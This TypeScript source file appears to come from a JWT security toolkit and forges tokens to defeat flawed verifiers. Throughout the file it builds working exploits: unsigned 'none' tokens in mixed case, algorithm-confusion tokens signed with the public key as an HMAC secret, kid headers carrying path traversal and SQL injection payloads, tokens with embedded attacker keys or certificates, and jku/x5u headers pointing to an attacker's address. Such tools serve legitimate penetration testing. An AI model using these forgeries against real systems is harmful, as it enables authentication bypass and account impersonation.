import type { RandomBytes } from '@castellan/foundation/randomness';
import { findAlgorithm } from '../algorithms.ts';
import { encodeBase64Url } from '../base64url.ts';
import { readClaims } from '../claims.ts';
import { generateKey } from '../generate-key.ts';
import { isPrivate, type Jwk, platformJwk, secretKey, thumbprint } from '../jwk.ts';
import type { Jws } from '../parse-jws.ts';
import { writePem } from '../pem.ts';
import type { Bytes, TokenCrypto } from '../ports.ts';
import { readKeys } from '../read-keys.ts';
import { signCompact } from '../sign-jws.ts';
import type { JsonObject } from '../strict-json.ts';
import { concatBytes, utf8 } from '../text-bytes.ts';
import { writeSelfSigned } from './self-signed.ts';

/** The ways to forge, in the order in which they are tried on a verifier. */
export const attacks = ['none', 'confusion', 'kid', 'jwk', 'jku'] as const;
export type Attack = (typeof attacks)[number];

/** One forged token. A verifier that accepts it has the flaw that `flaw` names. */
export type Forged = { readonly attack: Attack; readonly title: string; readonly flaw: string; readonly token: string };

/**
 * What is forged from a token. `claims` are set over the token's own. `keyText`: the verifier's public key as it is published, byte by
 * byte, for `confusion`; or a private key of one's own to sign with. `address`: where the key or certificate of `jku` will lie.
 */
export type ForgeOrder = {
  readonly jws: Jws;
  readonly attacks: readonly Attack[];
  readonly claims?: JsonObject | undefined;
  readonly keyText?: string | undefined;
  readonly address?: string | undefined;
  readonly nowSeconds: number;
};

/** Forged tokens; what must be published for some of them; and the attacks that lack something, with what it is. */
export type Forgery = {
  readonly forged: readonly Forged[];
  readonly skipped: readonly { readonly attack: Attack; readonly reason: string }[];
  /** For `jku` the JWK Set, for `x5u` the certificate in PEM. */
  readonly publish: { readonly jwks: string; readonly certificate: string } | undefined;
  /** The key that signed where a new one was made, to sign more tokens with. */
  readonly signingKey: Jwk | undefined;
};

type Platform = { readonly crypto: TokenCrypto; readonly randomBytes: RandomBytes };

/** Header members that name a key or change how the token is read: each attack sets its own. */
const dropped = ['alg', 'jwk', 'jku', 'x5u', 'x5c', 'x5t', 'x5t#S256', 'crit', 'b64'];

/** Forges tokens as one who has no key of the verifier's would. Nothing is sent. Rejects where the platform offers no cryptography. */
export async function forgeToken(order: ForgeOrder, platform: Platform): Promise<Forgery> {
  const header = order.jws.signatures[0]?.header ?? {};
  const alg = String(header['alg']);
  const work: Work = {
    order,
    alg,
    base: Object.fromEntries(Object.entries(header).filter(([name]) => !dropped.includes(name))),
    payload: payloadOf(order),
    ...platform,
  };
  const forged: Forged[] = [];
  const skipped: { attack: Attack; reason: string }[] = [];
  const wants = (attack: Attack) => order.attacks.includes(attack);
  if (wants('none')) forged.push(...forgeNone(work));
  if (wants('confusion')) {
    const made = await forgeConfusion(work);
    if (typeof made === 'string') skipped.push({ attack: 'confusion', reason: made });
    else forged.push(...made);
  }
  if (wants('kid')) forged.push(...(await forgeKid(work)));
  const signer = wants('jwk') || (wants('jku') && order.address !== undefined) ? await makeSigner(work) : undefined;
  if (wants('jwk') && signer !== undefined) forged.push(...(await forgeEmbedded(work, signer)));
  if (wants('jku') && order.address === undefined)
    skipped.push({ attack: 'jku', reason: 'it needs the address at which you publish the key' });
  if (wants('jku') && order.address !== undefined && signer !== undefined)
    forged.push(...(await forgeReferences(work, signer, order.address)));
  return {
    forged,
    skipped,
    publish: wants('jku') && signer !== undefined && order.address !== undefined ? publishedOf(signer) : undefined,
    signingKey: signer?.isNew === true ? signer.privateKey : undefined,
  };
}

type Work = Platform & { readonly order: ForgeOrder; readonly alg: string; readonly base: JsonObject; readonly payload: Bytes };

function payloadOf({ jws, claims }: ForgeOrder): Bytes {
  if (claims === undefined) return jws.payload;
  return utf8(JSON.stringify({ ...readClaims(jws.payload), ...claims }));
}

/** Spellings that a case-sensitive list of refused names misses. */
function forgeNone({ base, payload }: Work): readonly Forged[] {
  return ['none', 'None', 'NONE', 'nOnE'].map((alg) => ({
    attack: 'none',
    title: `Unsigned, alg “${alg}”`,
    flaw: alg === 'none' ? 'The verifier accepts unsigned tokens.' : 'The verifier rejects only the exact spelling “none”.',
    token: `${unsigned({ ...base, alg }, payload)}.`,
  }));
}

/** The public key as an HMAC secret (RFC 8725 §2.1), in each form in which a server may hold it; or why there is none. */
async function forgeConfusion({ order, alg: named, base, payload, crypto }: Work): Promise<readonly Forged[] | string> {
  const { keyText = '' } = order;
  if (keyText.trim() === '') return 'it needs the verifier’s public key';
  const keys = await readKeys(keyText, false, crypto);
  const [key] = keys.ok ? keys.value : [];
  if (key === undefined || key.kty === 'oct') return 'the key is not a public key';
  const pem = await writePem(key, 'public', crypto);
  const written = pem.ok ? pem.value : '';
  const given: readonly (readonly [string, string])[] = isPrivate(key)
    ? []
    : [
        ['the key as given', keyText],
        ['the key as given, without its last line break', keyText.replace(/\r?\n$/, '')],
        ['the key as given, with a line break at its end', `${keyText.replace(/\r?\n$/, '')}\n`],
      ];
  const secrets: readonly (readonly [string, string])[] = [
    ...given,
    ['the key in PEM (SPKI)', written],
    ['the key in PEM (SPKI), without its last line break', written.trimEnd()],
  ];
  const meant = findAlgorithm(named);
  const alg = `HS${meant === undefined || meant.kty === 'OKP' ? 256 : meant.hashBits}`;
  const seen = new Set(['']);
  const forged: Forged[] = [];
  for (const [form, secret] of secrets) {
    if (seen.has(secret)) continue;
    seen.add(secret);
    forged.push({
      attack: 'confusion',
      title: `${alg} with the public key as the secret: ${form}`,
      flaw: 'The verifier takes the algorithm from the token and uses its public key as an HMAC secret (algorithm confusion).',
      token: await signHmac({ ...base, alg }, payload, utf8(secret), crypto),
    });
  }
  return forged;
}

/** Key ids that lead a careless look-up to a key that is known (RFC 8725 §3.10). */
async function forgeKid({ base, payload, crypto }: Work): Promise<readonly Forged[]> {
  const path = 'The verifier uses kid as a file path (path traversal) and reads an empty key from it.';
  const sql = 'The verifier puts kid into an SQL query (SQL injection) and uses its result as the key.';
  const kinds: readonly (readonly [string, string, string, string])[] = [
    ['kid with path traversal, empty key', '../../../../../../../../dev/null', '', path],
    ['kid as an absolute path, empty key', '/dev/null', '', path],
    ['kid with SQL injection, quote closed', "x' UNION SELECT 'forged", 'forged', sql],
    ['kid with SQL injection, rest commented out', "x' UNION SELECT 'forged' -- ", 'forged', sql],
  ];
  return Promise.all(
    kinds.map(async ([title, kid, secret, flaw]) => {
      const token = await signHmac({ ...base, alg: 'HS256', kid }, payload, utf8(secret), crypto);
      return { attack: 'kid' as const, title, flaw, token };
    }),
  );
}

/** A key pair of the forger's own, with its certificate. */
type Signer = {
  readonly alg: string;
  readonly privateKey: Jwk;
  readonly publicKey: Jwk;
  /** DER. */
  readonly certificate: Bytes;
  readonly isNew: boolean;
};

async function makeSigner({ alg: named, order, crypto, randomBytes }: Work): Promise<Signer> {
  const keys = await readKeys(order.keyText ?? '', false, crypto);
  const own = keys.ok ? keys.value.find((key) => key.kty !== 'oct' && isPrivate(key)) : undefined;
  const signs = findAlgorithm(named)?.kty;
  const alg = own === undefined ? (signs === undefined || signs === 'oct' ? 'RS256' : named) : algorithmOf(own, named);
  const privateKey = own ?? (await generateKey(alg, 2048, crypto, randomBytes)).privateKey;
  const bare = { ...platformJwk(privateKey, 'public'), kty: privateKey.kty };
  const publicKey: Jwk = { ...bare, kid: await thumbprint(bare, crypto), alg, use: 'sig' };
  const certificate = await writeSelfSigned({ privateKey, alg, serial: randomBytes(16), nowSeconds: order.nowSeconds }, crypto);
  return { alg, privateKey, publicKey, certificate, isNew: own === undefined };
}

/** An algorithm that a key of one's own can sign with: the token's, where it fits. */
function algorithmOf(key: Jwk, named: string): string {
  if (findAlgorithm(named)?.kty === key.kty && (findAlgorithm(named)?.crv ?? key['crv']) === key['crv']) return named;
  if (key.kty === 'EC') return key['crv'] === 'P-384' ? 'ES384' : key['crv'] === 'P-521' ? 'ES512' : 'ES256';
  return key.kty === 'OKP' ? 'EdDSA' : 'RS256';
}

async function forgeEmbedded(work: Work, { alg, privateKey, publicKey, certificate }: Signer): Promise<readonly Forged[]> {
  const secret = work.randomBytes(32);
  const kid = publicKey['kid'] ?? '';
  const flaw = 'The verifier trusts a key that is embedded in the token.';
  const x5c = [toBase64(certificate)];
  return [
    {
      attack: 'jwk',
      title: `Embedded key (jwk), ${alg}`,
      flaw,
      token: await sign(work, { ...work.base, alg, kid, jwk: publicKey }, privateKey),
    },
    {
      attack: 'jwk',
      title: 'Embedded secret (jwk), HS256',
      flaw,
      token: await signHmac({ ...work.base, alg: 'HS256', jwk: secretKey(secret) }, work.payload, Uint8Array.from(secret), work.crypto),
    },
    {
      attack: 'jwk',
      title: `Embedded self-signed certificate (x5c), ${alg}`,
      flaw: 'The verifier uses the key of an embedded certificate without validating its chain.',
      token: await sign(work, { ...work.base, alg, x5c }, privateKey),
    },
  ];
}

async function forgeReferences(work: Work, { alg, privateKey, publicKey }: Signer, address: string): Promise<readonly Forged[]> {
  const flaw = (name: string) => `The verifier fetches the key from the URL in ${name} without an allowlist.`;
  const kid = publicKey['kid'] ?? '';
  return [
    {
      attack: 'jku',
      title: `jku to your address, ${alg}`,
      flaw: flaw('jku'),
      token: await sign(work, { ...work.base, alg, kid, jku: address }, privateKey),
    },
    {
      attack: 'jku',
      title: `x5u to your address, ${alg}`,
      flaw: flaw('x5u'),
      token: await sign(work, { ...work.base, alg, x5u: address }, privateKey),
    },
  ];
}

function publishedOf({ publicKey, certificate }: Signer): { readonly jwks: string; readonly certificate: string } {
  const lines = toBase64(certificate).match(/.{1,64}/g) ?? [];
  return {
    jwks: JSON.stringify({ keys: [publicKey] }, null, 2),
    certificate: `-----BEGIN CERTIFICATE-----\n${lines.join('\n')}\n-----END CERTIFICATE-----\n`,
  };
}

async function sign({ payload, crypto }: Work, header: JsonObject, key: Jwk): Promise<string> {
  // What a key says of its use is no concern of a forger's.
  const signed = await signCompact(header, payload, { ...platformJwk(key, 'whole'), kty: key.kty }, crypto);
  if (!signed.ok) throw new Error(signed.failure.message);
  return signed.value;
}

/** An HMAC by any secret. The platform takes no empty one; HMAC fills a short key up with zeros, so that one zero byte is the same. */
async function signHmac(header: JsonObject, payload: Bytes, secret: Bytes, crypto: TokenCrypto): Promise<string> {
  const text = unsigned(header, payload);
  const algorithm = findAlgorithm(String(header['alg']));
  if (algorithm === undefined) throw new Error('no HMAC');
  const key = platformJwk(secretKey(secret.length === 0 ? new Uint8Array(1) : secret), 'whole');
  const imported = await crypto.importKey('jwk', key, algorithm.import, false, ['sign']);
  return `${text}.${encodeBase64Url(new Uint8Array(await crypto.sign(algorithm.sign, imported, utf8(text))))}`;
}

function unsigned(header: JsonObject, payload: Bytes): string {
  return `${encodeBase64Url(utf8(JSON.stringify(header)))}.${encodeBase64Url(concatBytes(payload))}`;
}

/** With padding, as `x5c` and PEM have it. */
function toBase64(bytes: Uint8Array): string {
  const text = encodeBase64Url(bytes).replaceAll('-', '+').replaceAll('_', '/');
  return text + '='.repeat((4 - (text.length % 4)) % 4);
}
